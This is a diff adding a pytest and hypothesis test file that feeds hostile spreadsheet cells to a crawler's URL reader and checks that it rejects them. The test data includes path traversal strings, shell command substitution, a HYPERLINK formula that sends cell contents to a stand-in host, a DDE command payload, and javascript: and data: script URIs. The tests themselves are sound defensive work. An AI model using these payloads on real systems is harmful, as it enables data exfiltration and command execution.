@@ -1,0 +1,132 @@
+"""Cells that want to break the reader."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from crawler.urls import parse_url, read_url_cell
+from crawler.urls.problems import PROBLEMS
+
+CELLS = [
+    '<a href="https://evil.test">Official site</a>',
+    "+1+1",
+    "-",
+    "-5",
+    "@university",
+    "../../etc/cron.d/x",
+    "..\\..\\windows\\x",
+    "/etc/passwd",
+    "aux.csv",
+    "a\nb",
+    "-rf",
+    "~root",
+    "report\u202efdp.html",
+    "$(touch x)`id`",
+    '=HYPERLINK("http://evil.test/?x="&A1&A2,"click")',
+    "=cmd|' /C calc'!A0",
+    "\0",
+    "\ud800",
+    "https://uni.pl/\udfff\ud800",
+    "http://" + "a." * 2000 + "pl/",
+    "http://" + "@" * 4000,
+    "[" * 4000 + "](" + "https://uni.pl/)",
+    "<a " * 2500,
+    "%25" * 2500,
+    "https://uni.pl/" + "%C3" * 2500,
+    "https:" * 1300,
+    "www." * 2000,
+    " a" * 4000,
+    "http://xn--" + "9" * 5000 + ".pl/",
+    "https://uni.pl/?" + "a=1&" * 2000,
+    "1" * 8000,
+    "x" * 1_000_000,
+    "\u202e" * 1_000_000,
+]
+
+url_like = st.builds(
+    "".join,
+    st.lists(
+        st.sampled_from(
+            [
+                "http",
+                "https",
+                ":",
+                "/",
+                "//",
+                "www.",
+                "uni",
+                ".pl",
+                ".",
+                ",",
+                " ",
+                "\n",
+                "%2",
+                "%C3",
+                "#",
+                "?",
+                "&",
+                "=",
+                "@",
+            ]
+            + [
+                "(",
+                ")",
+                "[",
+                "]",
+                "<",
+                ">",
+                '"',
+                "\\",
+                "\u200b",
+                "а",
+                "ı",
+                "–",
+                "1",
+                "rn",
+                ";",
+                "edu",
+                "://",
+                "...",
+                "&amp;",
+            ]
+        ),
+        max_size=14,
+    ),
+)
+
+
+@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
+def test_no_cell_breaks_the_reader(cell: str) -> None:
+    target = read_url_cell("1", cell)
+    assert target.given == cell
+    assert target.url is None or parse_url(target.url) == target.url
+    assert target.problem is None or target.problem in PROBLEMS
+
+
+def test_a_script_in_a_cell_gives_no_link() -> None:
+    assert read_url_cell("1", "javascript:alert('https://uni.pl/')").url is None
+    assert read_url_cell("1", "data:text/html,<script>https://uni.pl/</script>").url is None
+
+
+@given(url_like | st.text(max_size=60))
+@example("https://uni.pl/%2e%2e")
+@example("https://uni%2Epl./,")
+def test_reading_what_was_read_changes_nothing(cell: str) -> None:
+    target = read_url_cell("1", cell)
+    for url in (target.url, *target.proposed):
+        assert url is None or parse_url(url) == url
+    if target.url is not None:
+        assert read_url_cell("1", target.url).url == target.url
+
+
+@given(url_like)
+def test_what_a_person_must_decide_is_not_done(cell: str) -> None:
+    target = read_url_cell("1", cell)
+    done = [repair for repair in target.repairs if not repair.needs_person]
+    if target.url is not None and not done:
+        assert target.url == parse_url(cell)
+    if target.proposed:
+        assert any(repair.needs_person for repair in target.repairs)
+        assert target.url not in target.proposed
